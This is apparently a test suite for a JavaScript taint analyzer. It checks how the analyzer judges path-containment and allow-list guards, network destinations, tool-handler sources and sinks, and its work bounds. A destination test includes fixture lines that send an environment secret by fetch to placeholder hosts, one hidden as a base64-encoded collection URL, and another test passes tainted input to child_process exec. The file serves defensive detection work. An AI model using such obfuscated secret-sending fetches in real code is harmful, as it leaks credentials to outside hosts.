// Guards, destinations and function-level sources/sinks.
import assert from "node:assert/strict";
import { test } from "node:test";
import { functionNamed, pairs, programOf, runTaint, TEST_MODEL } from "./support/taint-harness.js";
import { link } from "../analyzer/program/index.js";
import { analyzeTaint } from "../analyzer/taint/index.js";
import { emptyFacts } from "../analyzer/acquire/manifest.js";
import { MAX_PENDING_SINKS } from "../analyzer/taint/context.js";

const guardCases: [string, string, string[]][] = [
  ["no guard", `sink(process.env.A);`, ["A→test@1"]],
  ["early throw on literal inequality", `const x = process.env.A;\nif (x !== "a") throw new Error("no");\nsink(x);`, ["A→test@3 (guard:literal-equality)"]],
  ["allow-list includes", `const ALLOWED = ["a", "b"];\nconst x = process.env.A;\nif (!ALLOWED.includes(x)) return;\nsink(x);`, ["A→test@4 (guard:allow-list)"]],
  ["allow-list includes, up to letter case", `const ALLOWED = ["a", "b"];\nconst x = process.env.A;\nif (!ALLOWED.includes(x.toLowerCase())) return;\nsink(x);`, ["A→test@4 (guard:allow-list)"]],
  ["every element of a list in an allow-list", `const xs = process.env.A;\nif (!xs.every((x) => ["a", "b"].includes(x))) throw new Error("no");\nsink(xs);`, ["A→test@3 (guard:allow-list)"]],
  ["the unlisted elements filtered out and found empty", `const xs = process.env.A;\nconst bad = xs.filter((x) => !["a", "b"].includes(x));\nif (bad.length > 0) throw new Error("no");\nsink(xs);`, ["A→test@4 (guard:allow-list)"]],
  ["the unlisted elements found empty by a falsy length", `const xs = process.env.A;\nconst bad = xs.filter((x) => !["a", "b"].includes(x));\nif (!bad.length) sink(xs);`, ["A→test@3 (guard:allow-list)"]],
  ["the unlisted elements of an awaited filter found empty", `async function f() {\nconst xs = process.env.A;\nconst bad = await xs.filter((x) => !["a", "b"].includes(x));\nif (bad.length > 0) throw new Error("no");\nsink(xs);\n}`, ["A→test@5 (guard:allow-list)"]],
  ["unlisted elements only logged", `const xs = process.env.A;\nconst bad = xs.filter((x) => !["a", "b"].includes(x));\nif (bad.length > 0) console.log("odd");\nsink(xs);`, ["A→test@4"]],
  ["every element's field in an allow-list says nothing of the element", `const xs = process.env.A;\nif (!xs.every((x) => ["a", "b"].includes(x.name))) throw new Error("no");\nsink(xs);`, ["A→test@3"]],
  ["some element in an allow-list says nothing of the others", `const xs = process.env.A;\nif (!xs.some((x) => ["a", "b"].includes(x))) throw new Error("no");\nsink(xs);`, ["A→test@3"]],
  ["leading dash refused, after trim", `const x = process.env.A;\nif (x.trim().startsWith("-")) throw new Error("option");\nsink(x);`, ["A→test@3 (sanitized:shape:no-leading-dash)"]],
  ["leading dash only warned about", `const x = process.env.A;\nif (x.startsWith("-")) console.warn("option");\nsink(x);`, ["A→test@3"]],
  ["guarded branch only", `const x = process.env.A;\nif (/^[a-z]+$/.test(x)) { sink(x); } else { sink(x); }`, ["A→test@2", "A→test@2 (sanitized:shape:no-dot-dot+shape:no-leading-dash+shape:no-separator+shape:relative+shape:shell-inert+shape:word-chars, guard:regex-match)"]],
  ["unanchored regex is no guard", `const x = process.env.A;\nif (/[a-z]/.test(x)) sink(x);`, ["A→test@2"]],
  ["startsWith(root + sep) contains", `const path = require("path");\nconst p = path.resolve(root, process.env.A);\nif (!p.startsWith(root + path.sep)) throw new Error("outside");\nsink(p);`, ["A→test@4 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["bare startsWith(root) does not", `const path = require("path");\nconst p = path.resolve(root, process.env.A);\nif (!p.startsWith(root)) throw new Error("outside");\nsink(p);`, ["A→test@4 (sanitized:shape:no-leading-dash+shape:prefix-checked)"]],
  ["path.relative guard", `const path = require("path");\nconst p = process.env.A;\nconst rel = path.relative(root, p);\nif (rel.startsWith("..") || path.isAbsolute(rel)) throw new Error("outside");\nsink(p);`, ["A→test@5 (guard:path-containment)"]],
  ["some() with separator", `const path = require("path");\nconst p = path.resolve(process.env.A);\nif (!dirs.some((d) => p === d || p.startsWith(d + path.sep))) throw new Error("denied");\nsink(p);`, ["A→test@4 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["some() without separator", `const path = require("path");\nconst p = path.resolve(process.env.A);\nif (!dirs.some((d) => p.startsWith(d))) throw new Error("denied");\nsink(p);`, ["A→test@4 (sanitized:shape:no-leading-dash+shape:prefix-checked)"]],
  ["guard inside a helper carries to the caller", `const path = require("path");\nfunction check(p) { const r = path.resolve(p); if (!r.startsWith(ROOT + "/")) throw new Error("x"); return r; }\nsink(check(process.env.A));`, ["A→test@3 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["switch on literals", `const x = process.env.A;\nswitch (x) { case "a": sink(x); break; default: break; }`, ["A→test@2 (guard:literal-equality)"]],
  ["validator by name", `const x = process.env.A;\nif (!isValidBranchName(x)) throw new Error("bad");\nsink(x);`, ["A→test@3 (guard:sanitizer-call)"]],
  ["typeof number", `const x = process.env.A;\nif (typeof x === "number") sink(x);`, ["A→test@2 (guard:type-check)"]],
  ["boolean variable holding the check", `const path = require("path");\nconst p = path.resolve(process.env.A);\nconst inside = p.startsWith(root + path.sep);\nif (!inside) throw new Error("outside");\nsink(p);`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["containment reaches what the checked path was built from", `const path = require("path");\nconst abs = path.resolve(process.env.A);\nconst n = normalize(path.resolve(abs));\nif (!n.startsWith(root + path.sep)) throw new Error("outside");\nsink(abs);`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["helper judged by its body: separator", `const path = require("path");\nfunction inAllowed(p, dirs) { let n; try { n = path.resolve(path.normalize(p)); } catch { return false; } return dirs.some((d) => { if (n === d) return true; if (d === path.sep) return n.startsWith(path.sep); return n.startsWith(d + path.sep); }); }\nconst p = process.env.A;\nconst ok = inAllowed(p, dirs);\nif (!ok) throw new Error("denied");\nsink(p);`, ["A→test@6 (guard:path-containment)"]],
  ["helper judged by its body: bare prefix, even when named like a validator", `function isPathAllowed(p, dirs) { return dirs.some((d) => p.startsWith(d)); }\nconst p = process.env.A;\nif (!isPathAllowed(p, dirs)) throw new Error("denied");\nsink(p);`, ["A→test@4 (sanitized:shape:prefix-checked)"]],
  ["helper judged by its body: path.relative", `const path = require("path");\nfunction within(root, p) { const rel = path.relative(root, p); if (rel.startsWith("..") || path.isAbsolute(rel)) return false; return true; }\nconst p = path.resolve(root, process.env.A);\nif (!within(root, p)) throw new Error("denied");\nsink(p);`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["helper that throws, called as a statement: path.relative", `const path = require("path");\nfunction assertInside(p) { const rel = path.relative(ROOT, path.resolve(ROOT, p)); if (rel.startsWith("..") || path.isAbsolute(rel)) throw new Error("outside"); }\nconst p = process.env.A;\nassertInside(p);\nsink(path.join(ROOT, p));`, ["A→test@5 (guard:path-containment)"]],
  ["helper that throws after an early return proves nothing", `const path = require("path");\nfunction assertInside(p) { if (!ROOT) return; const rel = path.relative(ROOT, path.resolve(ROOT, p)); if (rel.startsWith("..")) throw new Error("outside"); }\nconst p = process.env.A;\nassertInside(p);\nsink(path.join(ROOT, p));`, ["A→test@5"]],
  ["helper that throws: no `..` and not absolute marks the argument", `const path = require("path");\nfunction assertName(p) { if (p.includes("..") || path.isAbsolute(p)) throw new Error("bad"); }\nconst p = process.env.A;\nassertName(p);\nsink(path.join(ROOT, p));`, ["A→test@5 (sanitized:shape:no-dot-dot+shape:relative, guard:shape)"]],
  ["helper that only logs proves nothing", `const path = require("path");\nfunction note(p) { if (p.includes("..")) console.log("odd"); }\nconst p = process.env.A;\nnote(p);\nsink(path.join(ROOT, p));`, ["A→test@5"]],
  ["await of a throwing realpath helper, prefix with separator", `const fs = require("fs");\nasync function ensureInside(p) { const real = await fs.promises.realpath(p); if (real !== ROOT && !real.startsWith(ROOT + "/")) throw new Error("outside"); }\nasync function go() { const p = process.env.A;\nawait ensureInside(p);\nsink(p); }\ngo();`, ["A→test@5 (guard:path-containment)"]],
  ["no `..` segment after splitting at separators", `const path = require("path");\nconst p = process.env.A;\nconst parts = p.split(/[\\\\/]/);\nif (parts.includes("..") || path.isAbsolute(p)) throw new Error("bad");\nsink(path.join(ROOT, p));`, ["A→test@5 (sanitized:shape:no-dot-dot+shape:relative, guard:shape)"]],
  ["split at backslash only leaves `../` whole: no mark", `const p = process.env.A;\nif (p.split("\\\\").includes("..")) throw new Error("bad");\nsink(p);`, ["A→test@3"]],
  ["path.relative checked against `..` + separator", `const path = require("path");\nconst p = path.resolve(ROOT, process.env.A);\nconst rel = path.relative(ROOT, p);\nif (rel.startsWith(".." + path.sep) || path.isAbsolute(rel)) throw new Error("outside");\nsink(p);`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["prefix check on the resolved call itself", `const path = require("path");\nconst p = process.env.A;\nif (!path.resolve(ROOT, p).startsWith(ROOT + path.sep)) throw new Error("outside");\nsink(path.resolve(ROOT, p));`, ["A→test@4 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["bare prefix on the resolved call is no containment", `const path = require("path");\nconst p = process.env.A;\nif (!path.resolve(ROOT, p).startsWith(ROOT)) throw new Error("outside");\nsink(path.resolve(ROOT, p));`, ["A→test@4 (sanitized:shape:no-leading-dash+shape:prefix-checked)"]],
  ["the first root a filter keeps, checked for presence", `const path = require("path");\nfunction inside(parent, child) { const rel = path.relative(parent, child); return !rel.startsWith("..") && !path.isAbsolute(rel); }\nconst p = path.resolve(process.env.A);\nconst best = dirs.filter((d) => inside(d, p)).sort((a, b) => b.length - a.length)[0];\nif (!best) throw new Error("outside");\nsink(p);`, ["A→test@6 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["a throwing helper with an object parameter", `const path = require("path");\nfunction inside(parent, child) { const rel = path.relative(parent, child); return !rel.startsWith("..") && !path.isAbsolute(rel); }\nfunction assertWithin({ given, resolved }) { const real = realpathish(resolved); if (!dirs.some((d) => inside(d, real))) throw new Error(given); }\nconst p = path.resolve(process.env.A);\nassertWithin({ given: process.env.A, resolved: p });\nsink(p);`, ["A→test@6 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["a throwing helper with an object parameter whose check is on another property", `const path = require("path");\nfunction assertWithin({ given, resolved }) { if (!given) throw new Error("empty"); }\nconst p = path.resolve(process.env.A);\nassertWithin({ given: "x", resolved: p });\nsink(p);`, ["A→test@5 (sanitized:shape:no-leading-dash)"]],
  ["helper that contains nothing is no containment", `function check(p) { return p.length < 100; }\nconst p = process.env.A;\nif (!check(p)) throw new Error("denied");\nsink(p);`, ["A→test@4"]],
  ["guard on a member of a parameter (a tool's whole arguments)", `function inner(args) {\nif (!["x", "y"].includes(args.p)) throw new Error("no");\nsink(args.p);\n}\ninner({ p: process.env.A });`, ["A→test@3 (guard:allow-list)"]],
  ["a check on one member leaves the other unguarded", `function inner(args) {\nif (!["x", "y"].includes(args.p)) throw new Error("no");\nsink(args.q);\n}\ninner({ p: process.env.A, q: process.env.A });`, ["A→test@3"]],
  ["guard on a member", `const args = { p: process.env.A };\nif (!["x", "y"].includes(args.p)) throw new Error("no");\nsink(args.p);`, ["A→test@3 (guard:allow-list)"]],
  ["path.relative whose first segment is not `..`", `const path = require("path");\nconst p = path.resolve(ROOT, process.env.A);\nconst rel = path.relative(ROOT, p);\nif (rel.split(path.sep)[0] === ".." || path.isAbsolute(rel)) throw new Error("outside");\nsink(p);`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["a first segment that is not `..` of the raw value contains nothing", `const path = require("path");\nconst p = process.env.A;\nif (p.split(path.sep)[0] === "..") throw new Error("outside");\nsink(path.join(ROOT, p));`, ["A→test@4"]],
  ["a member checked only when given", `const args = { p: process.env.A };\nif (!args.p) return;\nsink(args.p);`, ["A→test@3"]],
  ["path functions imported by name: relative and sep", `const { relative, isAbsolute, sep } = require("path");\nconst p = process.env.A;\nconst rel = relative(ROOT, p);\nif (rel.startsWith(".." + sep) || isAbsolute(rel)) throw new Error("outside");\nsink(p);`, ["A→test@5 (guard:path-containment)"]],
  ["a prefix ending at a bare imported sep contains", `const { resolve, sep } = require("path");\nconst p = resolve(ROOT, process.env.A);\nif (!p.startsWith(ROOT + sep)) throw new Error("outside");\nsink(p);`, ["A→test@4 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["a local named sep is not the separator", `const sep = "-";\nconst p = process.env.A;\nif (!p.startsWith(ROOT + sep)) throw new Error("outside");\nsink(p);`, ["A→test@4 (sanitized:shape:prefix-checked)"]],
  ["a helper testing a constant scheme names no folder", `function isFileUrl(u) { return u.startsWith("file://") || u.startsWith("computer://"); }\nconst p = process.env.A;\nif (!isFileUrl(p)) return;\nsink(p);`, ["A→test@4"]],
  ["past a membership helper's miss the value is unchecked", `function exists(n, list) { return list.some((d) => d === n); }\nconst p = process.env.A;\nif (exists(p, dirs)) return;\nsink(p);`, ["A→test@4"]],
  ["past a membership helper's match the value equals a listed one", `function exists(n, list) { return list.some((d) => d === n); }\nconst p = process.env.A;\nif (!exists(p, dirs)) return;\nsink(p);`, ["A→test@4 (guard:path-containment)"]],
  ["past a miss of a helper matching a trimmed alias in a callback with several returns the value is unchecked", `function known(name, list) { const key = name.trim(); return list.some(function (e) { const base = e.replace(/\\.md$/, ""); if (base === key) return true; return false; }); }\nconst p = process.env.A;\nif (known(p, dirs)) return;\nsink(p);`, ["A→test@4"]],
  ["past a miss of a helper that returns true on an earlier match the value is unchecked", `function known(name, list) { const key = name.trim(); if (list.some((e) => e.trim() === key)) return true; return list.some((e) => { const m = /^\\d+-(.+)$/.exec(e); if (m) return m[1] === key; return false; }); }\nconst p = process.env.A;\nif (known(p, dirs)) return;\nsink(p);`, ["A→test@4"]],
  ["past a match of that helper the check stays unread", `function known(name, list) { const key = name.trim(); if (list.some((e) => e.trim() === key)) return true; return list.some((e) => { const m = /^\\d+-(.+)$/.exec(e); if (m) return m[1] === key; return false; }); }\nconst p = process.env.A;\nif (!known(p, dirs)) return;\nsink(p);`, ["A→test@4 (sanitized:check:unread \`known(p, dirs)\` at main.js:4)"]],
  ["a resolver checking the real path of the nearest existing folder, the rest put back, confines what it returns", `const path = require("path");\nconst fs = require("fs");\nfunction canon(p) { let cur = path.resolve(p); const tail = []; for (;;) { try { const real = fs.realpathSync(cur); return tail.length > 0 ? path.resolve(real, ...tail.reverse()) : real; } catch { const parent = path.dirname(cur); if (parent === cur) return path.resolve(p); tail.push(cur.slice(parent.length + 1)); cur = parent; } } }\nfunction safe(base, target) { const rb = path.resolve(base); const rt = path.resolve(rb, target); const cb = canon(rb); const ct = canon(rt); const rel = path.relative(cb, ct); if (rel === ".." || rel.startsWith(".." + path.sep) || path.isAbsolute(rel)) throw new Error("outside"); return rt; }\nsink(safe(ROOT, process.env.A));`, ["A→test@5 (sanitized:shape:no-leading-dash, guard:path-containment)"]],
  ["the same resolver when the helper puts back segments it did not cut from the path", `const path = require("path");\nconst fs = require("fs");\nfunction canon(p) { const real = fs.realpathSync(path.dirname(path.resolve(p))); const tail = []; tail.push(EXTRA); return path.resolve(real, ...tail); }\nfunction safe(base, target) { const rb = path.resolve(base); const rt = path.resolve(rb, target); const cb = canon(rb); const ct = canon(rt); const rel = path.relative(cb, ct); if (rel === ".." || rel.startsWith(".." + path.sep) || path.isAbsolute(rel)) throw new Error("outside"); return rt; }\nsink(safe(ROOT, process.env.A));`, ["A→test@5 (sanitized:shape:no-leading-dash)"]],
  ["a name equal to its own basename holds no separator", `const path = require("path");\nconst x = process.env.A;\nif (x !== path.basename(x)) throw new Error("plain names only");\nsink(path.join(ROOT, x));`, ["A→test@4 (sanitized:shape:no-separator+shape:relative, guard:shape)"]],
  ["the basename test the other way round, in an or", `const { basename } = require("path");\nconst x = process.env.A;\nif (basename(x) !== x || x === "..") return;\nsink(x);`, ["A→test@4 (sanitized:shape:no-separator+shape:relative, guard:shape)"]],
  ["on the branch where the name differs from its basename: no marks", `const path = require("path");\nconst x = process.env.A;\nif (x === path.basename(x)) return;\nsink(x);`, ["A→test@4"]],
  ["equal to another value's basename: no marks", `const path = require("path");\nconst x = process.env.A;\nif (x !== path.basename(ROOT)) throw new Error("no");\nsink(x);`, ["A→test@4"]],
  ["a member tested in a conditional stays unchecked after it", `const args = { p: process.env.A };\nconst note = args.p ? "given" : "";\nsink(args.p);`, ["A→test@3"]],
];

for (const [name, code, expected] of guardCases) {
  test(`guards: ${name}`, () => {
    assert.deepEqual(pairs(runTaint({ "main.js": wrap(code) }), { guards: true }).map(shift), expected);
  });
}

/** Guards need a function body (early `return`); the test code is wrapped and lines shifted back. */
function wrap(code: string): string {
  return `function main(root, dirs, ROOT) {\n${code}\n}\nmain();`;
}
function shift(pair: string): string {
  return pair.replace(/@(\d+)/, (_, n: string) => `@${Number(n) - 1}`);
}

test("destination: constant host, configured host, hidden host", () => {
  const r = runTaint({
    "main.js": [
      `const key = process.env.A;`,
      `fetch("https://api.vendor.example/v1/x", { headers: { k: key } });`,
      `fetch((process.env.BASE_URL ?? "https://default.example") + "/v1", { body: key });`,
      `fetch(Buffer.from("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0", "base64").toString() + "/c", { body: key });`,
      `fetch(["https://", "x", ".example"].join("") + "/p?q=" + key, {});`,
      `fetch(unknownUrl(), { body: key });`,
    ].join("\n"),
  });
  const dests = r.hitsOf("net").map((h) => ({ line: h.location.line, ...h.destination! }));
  assert.deepEqual(
    dests.map((d) => [d.line, d.constants, d.prefixOnly, d.hostFixed, d.configuredBy, d.unresolved]),
    [
      [2, ["https://api.vendor.example/v1/x"], false, true, [], false],
      [3, ["https://default.example/v1"], true, false, ["BASE_URL"], false],
      [4, ["https://collect.example.net/c"], false, true, [], false],
      [5, ["https://x.example/p?q="], true, true, [], false],
      [6, [], false, false, [], true],
    ],
  );
  const url = r.hitsOf("net-url");
  assert.deepEqual(url.map((h) => [h.location.line, h.destination!.constants, h.destination!.configuredBy, h.destination!.tainted.map((l) => l.name)]), [
    [3, ["https://default.example/v1"], ["BASE_URL"], []],
    [5, ["https://x.example/p?q="], [], ["A"]],
  ]);
});

test("function sources and sinks: handler arguments to output, throws escaping", () => {
  const code = [
    `async function handler(args) {`,
    `  if (!args.ok) throw new Error("bad token " + process.env.A);`,
    `  return { content: [{ type: "text", text: args.q + process.env.B }] };`,
    `}`,
    `function other(x) { return x; }`,
  ].join("\n");
  const { modules } = programOf({ "main.js": code });
  const program = link(modules, emptyFacts());
  const fn = functionNamed(modules, "handler")!;
  const result = analyzeTaint(program, {
    models: [TEST_MODEL],
    functionSources: [{ fn, module: modules[0], params: [0], kind: "tool-argument", name: "search" }],
    functionSinks: [
      { fn, module: modules[0], what: "return", kind: "tool-output", name: "search" },
      { fn, module: modules[0], what: "throw", kind: "tool-throw", name: "search" },
    ],
  });
  assert.deepEqual(pairs(result), ["A→tool-throw@2 (sanitized:shape:after-first-word+shape:after-text+shape:not-at-start)", "B→tool-output@3 (sanitized:shape:after-text)", "search→tool-output@3"]);
  const flow = result.hitsOf("tool-output")[0].flows.find((f) => f.label.kind === "tool-argument")!;
  assert.equal(flow.field, "q");
  assert.deepEqual(result.escapingThrows(fn).map((f) => f.label.name), ["A"]);
  assert.deepEqual(result.escapingThrows(functionNamed(modules, "other")!), []);
});

test("reachableApis follows the call graph", () => {
  const code = [`import { exec } from "node:child_process";`, `import fs from "node:fs";`, `function run(c) { exec(c); }`, `function tool(a) { run(a); fs.readFileSync("x"); }`, `function quiet() { return 1; }`].join("\n");
  const { modules } = programOf({ "main.js": code });
  const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] });
  assert.deepEqual([...result.reachableApis(functionNamed(modules, "tool")!)].sort(), ["child_process Member[exec]", "fs Member[readFileSync]"]);
  assert.deepEqual([...result.reachableApis(functionNamed(modules, "quiet")!)], []);
});

test("constantsOf resolves through variables and decoding", () => {
  const code = `const host = "collect" + ".example";\nconst u = \`https://\${host}/x\`;\nuse(u);\nuse(String.fromCharCode(104, 105));`;
  const { modules } = programOf({ "main.js": code });
  const result = analyzeTaint(link(modules, emptyFacts()), { models: [] });
  const calls: import("@typescript-eslint/types").TSESTree.Node[] = [];
  for (const s of modules[0].ast.body) if (s.type === "ExpressionStatement" && s.expression.type === "CallExpression") calls.push(s.expression.arguments[0]);
  assert.deepEqual(result.constantsOf(calls[0], modules[0]), ["https://collect.example/x"]);
  assert.deepEqual(result.constantsOf(calls[1], modules[0]), ["hi"]);
});

test("10,000 nested expressions: a diagnostic, not a crash", () => {
  const deep = "(".repeat(10_000) + "process.env.A" + ")".repeat(10_000);
  const nested = Array.from({ length: 3000 }, () => "[").join("") + "process.env.A" + Array.from({ length: 3000 }, () => "]").join("");
  for (const code of [`sink(${deep});`, `sink(${nested});`]) {
    const { modules } = programOf({ "main.js": code });
    if (modules.length === 0) continue; // the parser itself refused: also not a crash
    const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] });
    assert.ok(Array.isArray(result.hits));
  }
});

test("work bound: says the analysis is incomplete instead of hanging", () => {
  const code = Array.from({ length: 200 }, (_, i) => `function f${i}(x) { return f${i + 1}(x) + f${i + 1}(x); }`).join("\n") + `\nsink(f0(process.env.A));`;
  const { modules } = programOf({ "main.js": code });
  const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] }, { workBudget: 20_000 });
  assert.ok(result.incomplete.length > 0);
});

test("pending-sink bound: a sink reached through many call sites of a helper stays found, and the engine says where it stopped instantiating", () => {
  // More distinct sink calls depending on one parameter than the bound (one sink call reached many times is one pending sink).
  const helpers = Array.from({ length: MAX_PENDING_SINKS + 6 }, (_, i) => `function send${i}(b) { sink(b); }`).join("\n");
  const calls = Array.from({ length: MAX_PENDING_SINKS + 6 }, (_, i) => `  send${i}(a + "${i}");`).join("\n");
  const code = `function send(b) {\n  sink(b);\n}\n${helpers}\nfunction relay(a) {\n  send(a);\n${calls}\n}\nrelay(process.env.A);`;
  const { modules } = programOf({ "main.js": code });
  const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] });
  // `send`'s sink (line 2) and the helpers' sinks up to the bound (lines 4…) are found through the caller; those past it are lost, and said to be.
  const found = ["A→test@2", ...Array.from({ length: MAX_PENDING_SINKS - 1 }, (_, i) => `A→test@${4 + i}`)];
  assert.deepEqual(pairs(result), found.sort());
  const relayLine = 4 + MAX_PENDING_SINKS + 6;
  assert.deepEqual(result.incomplete, [{ file: "main.js", reason: `too many file, network or process calls depend on the parameters of relay (main.js:${relayLine}); past the first ${MAX_PENDING_SINKS} in a function, what its callers pass into those calls is not followed, so findings through them may be missing` }]);
});

test("pending-sink bound: said once for the program, naming the functions that hit it and the tools whose handlers reach them", () => {
  const helpers = Array.from({ length: MAX_PENDING_SINKS + 2 }, (_, i) => `function send${i}(b) { sink(b); }`).join("\n");
  const calls = Array.from({ length: MAX_PENDING_SINKS + 2 }, (_, i) => `  send${i}(a + "${i}");`).join("\n");
  // Two functions over the bound, in two files; one tool reaches one of them through a helper, another tool reaches none.
  const lib = `${helpers}\nexport function relay(a) {\n${calls}\n}\nexport function fanout(a) {\n${calls}\n}`;
  const main = `import { relay } from "./lib.js";\nfunction via(x) { return relay(x); }\nexport function readTool(args) { return via(args.q); }\nexport function pingTool(args) { return args.q; }\nexport function dump(args) { return relay(args.q); }`;
  const { modules } = programOf({ "lib.js": lib, "main.js": main });
  const program = link(modules, emptyFacts());
  const mainModule = program.modules.find((m) => m.path === "main.js")!;
  const fnNamed = (name: string) => {
    const decl = mainModule.ast.body.find((s) => s.type === "ExportNamedDeclaration" && s.declaration?.type === "FunctionDeclaration" && s.declaration.id?.name === name);
    assert.ok(decl && decl.type === "ExportNamedDeclaration" && decl.declaration?.type === "FunctionDeclaration");
    return decl.declaration;
  };
  const sinks = [
    ["read", "readTool"],
    ["ping", "pingTool"],
  ].map(([tool, fn]) => ({ fn: fnNamed(fn), module: mainModule, what: "return" as const, kind: "tool-output", name: tool }));
  const result = analyzeTaint(program, { models: [TEST_MODEL], functionSinks: sinks });
  const bound = result.incomplete.filter((x) => x.reason.startsWith("too many file, network or process calls"));
  assert.equal(bound.length, 1);
  assert.equal(bound[0].file, "lib.js");
  const relayLine = MAX_PENDING_SINKS + 3;
  assert.equal(bound[0].reason, `too many file, network or process calls depend on the parameters of relay (lib.js:${relayLine}), fanout (lib.js:${relayLine + MAX_PENDING_SINKS + 4}); past the first ${MAX_PENDING_SINKS} in a function, what its callers pass into those calls is not followed, so findings through them may be missing; tools reaching them: read`);
});

test("guard helper in another module: the helpers it calls are found where it is defined", () => {
  const roots = `const path = require("path");\nfunction underRoot(candidate, root) { const rel = path.relative(root, candidate); if (rel === "" || path.isAbsolute(rel)) return false; if (rel.startsWith("..")) return false; return true; }\nfunction sharesPrefix(candidate, root) { return candidate.startsWith(root); }\nexports.assertInside = function assertInside(p) { const real = path.resolve(p); if (!ROOTS.some((r) => underRoot(real, r))) throw new Error("outside"); };\nexports.assertPrefix = function assertPrefix(p) { const real = path.resolve(p); if (!ROOTS.some((r) => sharesPrefix(real, r))) throw new Error("outside"); };\nexports.isUnderData = function isUnderData(p) { return underRoot(path.resolve(DATA, p), DATA); };`;
  const main = `const roots_1 = require("./roots.js");\nconst { isUnderData } = require("./roots.js");\nfunction a(p) { (0, roots_1.assertInside)(p); sink(p); }\nfunction b(p) { roots_1.assertPrefix(p); sink(p); }\nfunction c(p) { if (!isUnderData(p)) return; sink(p); }\nfunction d(p, q) { (0, roots_1.assertInside)(p); sink(q); }\na(process.env.A); b(process.env.B); c(process.env.C); d(process.env.D, process.env.E);`;
  assert.deepEqual(pairs(runTaint({ "main.js": main, "roots.js": roots }), { guards: true }), [
    "A→test@3 (guard:path-containment)",
    "B→test@4 (sanitized:shape:prefix-checked, guard:shape)",
    "C→test@5 (guard:path-containment)",
    "E→test@6",
  ]);
});

test("a throwing id check in another module: its pattern named where it is written, reached through helpers whose result is used", () => {
  const patterns = `export const ID = /^[A-Za-z0-9_-]+$/;\nexport const LOOSE = /^[\\w./-]+$/;`;
  const ids = `import { ID, LOOSE } from "./patterns.js";\nexport const assertId = (x) => { if (!x || !ID.test(x)) throw new Error("bad"); };\nexport function assertLoose(x) { if (!LOOSE.test(x)) throw new Error("bad"); }`;
  const main = [
    `import path from "path";`,
    `import { assertId, assertLoose } from "./ids.js";`,
    `function dirOf(id) { assertId(id); return path.join(ROOT, id); }`,
    `function fileOf(id) { return path.join(dirOf(id), "a.json"); }`,
    `function looseDir(id) { assertLoose(id); return path.join(ROOT, id); }`,
    `function a(p) { sink(fileOf(p)); }`,
    `function b(p) { const d = dirOf(p); sink(path.join(ROOT, p)); }`,
    `function c(p) { sink(looseDir(p)); }`,
    `function d(p, strict) { if (strict) assertId(p); sink(path.join(ROOT, p)); }`,
    `a(process.env.A); b(process.env.B); c(process.env.C); d(process.env.D, true);`,
  ].join("\n");
  const got = pairs(runTaint({ "main.js": main, "ids.js": ids, "patterns.js": patterns }), { guards: true });
  // A and B fully match an anchored pattern without `.` or `/`; C's pattern admits both; D is checked on one branch only.
  assert.ok(got.some((p) => p.startsWith("A→test@6 (") && p.includes("shape:no-separator") && p.includes("shape:no-dot-dot")), got.join("\n"));
  assert.ok(got.some((p) => p.startsWith("B→test@7 (") && p.includes("shape:no-separator") && p.includes("shape:no-dot-dot")), got.join("\n"));
  assert.ok(got.some((p) => p.startsWith("C→test@8") && !p.includes("no-separator") && !p.includes("no-dot-dot")), got.join("\n"));
  assert.ok(got.some((p) => p === "D→test@9"), got.join("\n"));
});

test("a helper answering with a verdict field: where the field is true, the path field of the passing object is contained", () => {
  const check = `const path = require("path");\nfunction inDirs(p, dirs) { const n = path.normalize(p); for (const d of dirs) { if (n.startsWith(path.normalize(d) + path.sep)) return true; } return false; }\nexports.validate = function validate(p) { if (!path.isAbsolute(p)) return { valid: false, resolved: p }; const resolved = path.resolve(p); if (!inDirs(resolved, DIRS)) return { valid: false, resolved }; return { valid: true, resolved }; };\nexports.validateSkippable = function validateSkippable(p) { const resolved = path.resolve(p); if (process.env.OFF) return { valid: true, resolved }; if (!inDirs(resolved, DIRS)) return { valid: false, resolved }; return { valid: true, resolved }; };\nexports.validateBare = function validateBare(p) { const resolved = path.resolve(p); if (!resolved.startsWith(ROOT)) return { valid: false, resolved }; return { valid: true, resolved }; };`;
  const main = [
    `const { validate, validateSkippable, validateBare } = require("./check.js");`,
    `function a(p) { const r = validate(p); if (!r.valid) throw new Error(r.error); sink(r.resolved); }`,
    `function b(p) { const r = validate(p); sink(r.resolved); }`,
    `function c(p) { const r = validateSkippable(p); if (!r.valid) return; sink(r.resolved); }`,
    `function d(p) { const r = validateBare(p); if (!r.valid) return; sink(r.resolved); }`,
    `function e(p) { const { valid, resolved } = validate(p); if (!valid) throw new Error("denied"); sink(resolved); }`,
    `function f(p) { const { valid, resolved } = validateSkippable(p); if (!valid) return; sink(resolved); }`,
    `a(process.env.A); b(process.env.B); c(process.env.C); d(process.env.D); e(process.env.E); f(process.env.F);`,
  ].join("\n");
  const got = pairs(runTaint({ "main.js": main, "check.js": check }), { guards: true });
  const e = got.filter((p) => p.startsWith("E→"));
  assert.ok(e.length > 0 && e.every((p) => p.includes("guard:path-containment")), got.join("\n"));
  assert.ok(got.some((p) => p.startsWith("F→test@7") && !p.includes("guard:path-containment")), got.join("\n"));
  // Every way A reaches the sink (the passing object, and each failing one the field rules out) is contained.
  const a = got.filter((p) => p.startsWith("A→"));
  assert.ok(a.length > 0 && a.every((p) => p.includes("guard:path-containment")), got.join("\n"));
  for (const [label, line] of [["B", 3], ["C", 4], ["D", 5]] as const) {
    assert.ok(got.some((p) => p.startsWith(`${label}→test@${line}`) && !p.includes("guard:path-containment")), got.join("\n"));
  }
});

